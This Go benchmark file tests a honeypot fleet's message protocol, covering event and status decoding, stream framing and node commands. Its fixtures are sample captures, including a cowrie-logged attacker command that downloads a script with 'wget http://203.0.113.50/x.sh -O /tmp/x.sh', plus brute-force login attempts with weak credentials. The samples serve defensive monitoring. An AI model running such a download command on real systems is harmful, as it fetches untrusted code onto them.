package proto_test

import (
	"bytes"
	"errors"
	"io"
	"testing"

	"github.com/honeybee/core/proto"
)

// potEventDocumented is a ~500-byte documented-form PotEvent, as a cowrie
// node sends for a command.
var potEventDocumented = []byte(`{"version":2,"message":{"PotEvent":{"node_id":12345,"pot_id":"cowrie-01","pot_type":"cowrie","event_type":"cowrie.command.input","timestamp":"2026-11-28T10:30:05Z","data":{"eventid":"cowrie.command.input","input":"uname -a; cat /proc/cpuinfo | grep name | wc -l; wget http://203.0.113.50/x.sh -O /tmp/x.sh","session":"a1b2c3d4e5f6","src_ip":"192.0.2.77","src_port":51122,"dst_ip":"198.51.100.10","dst_port":2222,"sensor":"edge-fra-01","username":"root","protocol":"ssh","timestamp":"2026-11-28T10:30:05.123456Z","message":"CMD: uname -a"}}}}`)

// potEventCompact is the compact form with a similar amount of metadata.
var potEventCompact = []byte(`{"version":2,"message":{"PotEvent":{"node_id":42,"pot_id":"honnypotter-1","event":"honnypotter.login.failed","message":"wp-login brute force","metadata":{"ip":"203.0.113.9","username":"admin","password":"admin123","user_agent":"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36","path":"/wp-login.php","method":"POST","referer":"https://example.org/wp-admin/","attempt":"17"},"timestamp":1764302400}}}`)

var statusUpdate = []byte(`{"version":2,"message":{"NodeStatusUpdate":{"node_id":9223372036854775809,"status":"Running"}}}`)

func benchDecode(b *testing.B, msg []byte) {
	b.ReportAllocs()
	b.SetBytes(int64(len(msg)))
	for b.Loop() {
		if _, err := proto.Decode(msg); err != nil {
			b.Fatal(err)
		}
	}
}

// potStatusQuirk is the deployed Go node's attack report: a PotStatusUpdate
// with an empty status and the event in message.
var potStatusQuirk = []byte(`{"version":2,"message":{"PotStatusUpdate":{"node_id":77,"pot_id":"cowrie-02","pot_type":"cowrie","status":"","message":"cowrie.login.failed: root/123456 from 192.0.2.77:51122 (SSH-2.0-libssh2_1.10.0)"}}}`)

// BenchmarkDecodePotStatusUpdateGeneral decodes potStatusQuirk without the
// fast path, for comparison.
func BenchmarkDecodePotStatusUpdateGeneral(b *testing.B) {
	b.ReportAllocs()
	b.SetBytes(int64(len(potStatusQuirk)))
	for b.Loop() {
		if _, err := (proto.Decoder{}).DecodeGeneral(potStatusQuirk); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkDecodePotStatusUpdate(b *testing.B)  { benchDecode(b, potStatusQuirk) }
func BenchmarkDecodePotEvent(b *testing.B)         { benchDecode(b, potEventDocumented) }
func BenchmarkDecodePotEventCompact(b *testing.B)  { benchDecode(b, potEventCompact) }
func BenchmarkDecodeNodeStatusUpdate(b *testing.B) { benchDecode(b, statusUpdate) }

// BenchmarkReaderThroughput frames a stream of mixed envelopes, half of
// them newline-separated and half back to back.
func BenchmarkReaderThroughput(b *testing.B) {
	var stream bytes.Buffer
	frames := 0
	for stream.Len() < 1<<20 {
		for _, m := range [][]byte{potEventDocumented, potEventCompact, statusUpdate} {
			stream.Write(m)
			if frames%2 == 0 {
				stream.WriteByte('\n')
			}
			frames++
		}
	}
	data := stream.Bytes()
	b.ReportAllocs()
	b.SetBytes(int64(len(data)))
	for b.Loop() {
		r := proto.NewReader(bytes.NewReader(data), 0)
		n := 0
		for {
			_, err := r.Next()
			if errors.Is(err, io.EOF) {
				break
			}
			if err != nil {
				b.Fatal(err)
			}
			n++
		}
		if n != frames {
			b.Fatalf("%d frames, want %d", n, frames)
		}
	}
}

func BenchmarkMarshalNodeCommand(b *testing.B) {
	msgs := []proto.Message{
		&proto.NodeCommand{NodeID: 9223372036854775809, Command: proto.Command{Kind: proto.CmdStopPot, PotID: "cowrie-01"}},
		&proto.NodeCommand{NodeID: 9223372036854775809, Command: proto.Command{Kind: proto.CmdRestart}},
		&proto.NodeCommand{NodeID: 9223372036854775809, Command: proto.Command{Kind: proto.CmdInstallPot, PotID: "cowrie-01",
			Install: &proto.InstallPot{PotID: "cowrie-01", HoneypotType: "cowrie", Config: map[string]string{"ssh_port": "2222"}, AutoStart: true}}},
	}
	b.ReportAllocs()
	i := 0
	for b.Loop() {
		if _, err := proto.Marshal(msgs[i%len(msgs)]); err != nil {
			b.Fatal(err)
		}
		i++
	}
}
